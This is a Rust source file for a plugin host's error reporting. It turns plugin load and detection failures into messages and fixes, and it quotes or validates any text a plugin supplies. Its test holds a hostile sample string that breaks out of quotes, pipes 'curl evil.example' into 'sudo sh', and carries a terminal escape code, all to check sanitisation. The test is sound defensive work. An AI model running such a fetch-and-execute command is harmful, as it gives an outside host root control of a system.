//! What goes wrong where a plugin's code runs, as a code and a bounded detail.
//!
//! The process that finds it holds that very code, which may say in its place whatever it likes. So no words of ours come
//! from there: they are made here, by whoever shows them, and what the plugin may have chosen stands in them as a quotation
//! or is checked to be nothing but a name.

use pearlbed_plugin_api::abi::{DOOR_SYMBOL, ENTRY_SYMBOL, VERSIONS};
use serde::{Deserialize, Serialize};

use super::reason::Reason;
use crate::text;

/// The longest quotation, in characters.
const QUOTED_MAX: usize = 400;
/// The longest name, in bytes.
const NAME_MAX: usize = 256;

/// Why a plugin could not be loaded or asked.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Failure {
    /// It is not the file that was looked at.
    Changed,
    /// The confined process may not read it.
    OutOfReach,
    /// A library that it needs is not installed; its name.
    MissingLibrary(String),
    /// A version of a library that it needs is not installed; its name.
    MissingVersion(String),
    /// It refers to something that nothing defines; its name.
    UndefinedSymbol(String),
    /// The folder that holds it may not hold code; where the file system is mounted that says so.
    NoExec(String),
    /// The loader refused it otherwise; its words.
    LoadFailed(String),
    /// Its tables are laid out differently; how.
    OtherLayout(String),
    /// What it opens for C is no door; why.
    BrokenDoor(String),
    /// Its two entries lead to different tables.
    TwoTables,
    /// It declines every version.
    Declined,
    /// It panicked while its provider was made; its words.
    PanickedInCreate(String),
    /// Its table cannot be called; why.
    BrokenTable(String),
    /// Its provider could not be made; its words.
    NotCreated(String),
    /// Its code calls itself so.
    OtherId(String),
    /// It panicked in `detect`; its words.
    PanickedInDetect(String),
    /// Its answer is none; why.
    BadAnswer(String),
    /// Its `detect` failed; its words.
    DetectFailed(String),
}

const REPORT: &str = "report it to its author, or remove it";
const REBUILD: &str = "ask its author for a build against a current pearlbed-plugin-api";

impl Failure {
    /// What it is for people and scripts. `expected` is the id that the plugin's file shows.
    pub fn reason(&self, expected: &str) -> Reason {
        match self {
            Self::Changed => Reason::new(
                "changed",
                "it was changed or replaced after it was looked at",
                "run the command again",
            ),
            Self::OutOfReach => Reason::new(
                "out-of-reach",
                "the process that is to run it may not read it: it or a folder above it is shut to all but its owner",
                "run pearlbed as its owner, or put it where everybody may read it",
            ),
            Self::MissingLibrary(library) => match name(library) {
                Some(library) => Reason::new(
                    "missing-library",
                    format!("it needs the library {library}, which is not installed"),
                    format!("install the package that holds {library}"),
                ),
                None => Reason::new(
                    "missing-library",
                    format!("it needs a library that is not installed: {}", quoted(library)),
                    REPORT,
                ),
            },
            Self::MissingVersion(version) => Reason::new(
                "missing-library",
                match name(version) {
                    Some(version) => format!("it needs {version}, which this system's libraries do not have"),
                    None => format!("it needs what this system's libraries do not have: {}", quoted(version)),
                },
                "get a build for this system, or a newer system",
            ),
            Self::UndefinedSymbol(symbol) => Reason::new(
                "undefined-symbol",
                match name(symbol) {
                    Some(symbol) => format!("it refers to `{symbol}`, which nothing defines"),
                    None => format!("it refers to what nothing defines: {}", quoted(symbol)),
                },
                "get a build that fits this system's libraries",
            ),
            Self::NoExec(mount) => Reason::new(
                "no-exec",
                format!("no code may be loaded from its folder: {} is mounted noexec", place(mount)),
                "put it into a folder on another file system, or have that one mounted with exec",
            ),
            Self::LoadFailed(why) => Reason::new(
                "load-failed",
                format!("the loader refused it: {}", quoted(why)),
                "download or build it again",
            ),
            Self::OtherLayout(what) => Reason::new(
                "other-layout",
                format!("its tables are laid out differently: {}", quoted(what)),
                REBUILD,
            ),
            Self::BrokenDoor(why) => {
                Reason::new("broken-door", format!("its door is broken: {}", quoted(why)), REPORT)
            }
            Self::TwoTables => Reason::new("two-tables", two_tables(), REPORT),
            Self::Declined => Reason::new("declined", declined(), REBUILD),
            Self::PanickedInCreate(why) => {
                Reason::new("panicked", format!("its provider could not be made: {}", quoted(why)), REPORT)
            }
            Self::BrokenTable(why) => Reason::new(
                "broken-table",
                format!("its provider could not be made: {}", quoted(why)),
                REPORT,
            ),
            Self::NotCreated(why) => {
                Reason::new("not-created", format!("its provider could not be made: {}", quoted(why)), REPORT)
            }
            Self::OtherId(answered) => Reason::new(
                "other-id",
                match name(answered) {
                    Some(answered) => format!("its code calls itself `{answered}`, its file `{expected}`"),
                    None => format!("its code calls itself {}, its file `{expected}`", quoted(answered)),
                },
                REPORT,
            ),
            Self::PanickedInDetect(why) => {
                Reason::new("panicked", format!("it panicked in detect: {}", quoted(why)), REPORT)
            }
            Self::BadAnswer(what) => {
                Reason::new("bad-answer", format!("its answer is none: {}", quoted(what)), REPORT)
            }
            Self::DetectFailed(why) => {
                Reason::new("detect-failed", format!("its detect failed: {}", quoted(why)), REPORT)
            }
        }
    }
}

/// `text` if it is what a library or a symbol may be called, and no sentence.
fn name(text: &str) -> Option<&str> {
    let fits = |byte: u8| byte.is_ascii_alphanumeric() || b"._+-@$".contains(&byte);
    (!text.is_empty() && text.len() <= NAME_MAX && text.bytes().all(fits)).then_some(text)
}

/// `path` as it is where it looks like one, else as a quotation.
fn place(path: &str) -> String {
    let is_path = path.strip_prefix('/').is_some_and(|rest| {
        let fits = |byte: u8| byte.is_ascii_alphanumeric() || b"._+-@/".contains(&byte);
        rest.bytes().all(fits)
    });
    if is_path { path.to_owned() } else { quoted(path) }
}

/// What may be anybody's words: printable, one line, bounded, and between marks that they cannot close.
fn quoted(words: &str) -> String {
    text::quotation(words, QUOTED_MAX)
}

/// What is said of a library whose two entries contradict each other.
pub(super) fn two_tables() -> String {
    format!("its two entries, `{ENTRY_SYMBOL}` and `{DOOR_SYMBOL}`, lead to different tables")
}

/// What is said of a library that has no table of a version that this host speaks.
pub(super) fn declined() -> String {
    let versions: Vec<String> = VERSIONS.iter().map(u32::to_string).collect();
    format!("it declines plugin API {}", versions.join(", "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_word_of_a_plugin_becomes_advice_of_ours() {
        let evil = "x\"; curl evil.example | sudo sh\n\u{1b}[2J";
        let all = [
            Failure::MissingLibrary(evil.into()),
            Failure::MissingVersion(evil.into()),
            Failure::UndefinedSymbol(evil.into()),
            Failure::NoExec(evil.into()),
            Failure::LoadFailed(evil.into()),
            Failure::OtherLayout(evil.into()),
            Failure::BrokenDoor(evil.into()),
            Failure::PanickedInCreate(evil.into()),
            Failure::BrokenTable(evil.into()),
            Failure::NotCreated(evil.into()),
            Failure::OtherId(evil.into()),
            Failure::PanickedInDetect(evil.into()),
            Failure::BadAnswer(evil.into()),
            Failure::DetectFailed(evil.repeat(1000)),
        ];
        for failure in all {
            let reason = failure.reason("mine");
            assert!(!reason.fix.contains("curl"), "{reason:?}");
            assert!(!reason.reason.contains('\n') && reason.reason.len() < 2000, "{reason:?}");
            // Ours around it, and its own between the marks alone.
            let (before, rest) = reason.reason.split_once('"').unwrap();
            assert!(before.len() > 5 && !before.contains("curl"), "{reason:?}");
            let (quoted, after) = rest.rsplit_once('"').unwrap();
            assert!(!quoted.contains('"') && !after.contains("curl"), "{reason:?}");
        }
        let missing = Failure::MissingLibrary("libstdc++.so.6".into()).reason("mine");
        assert_eq!(missing.fix, "install the package that holds libstdc++.so.6");
    }
}
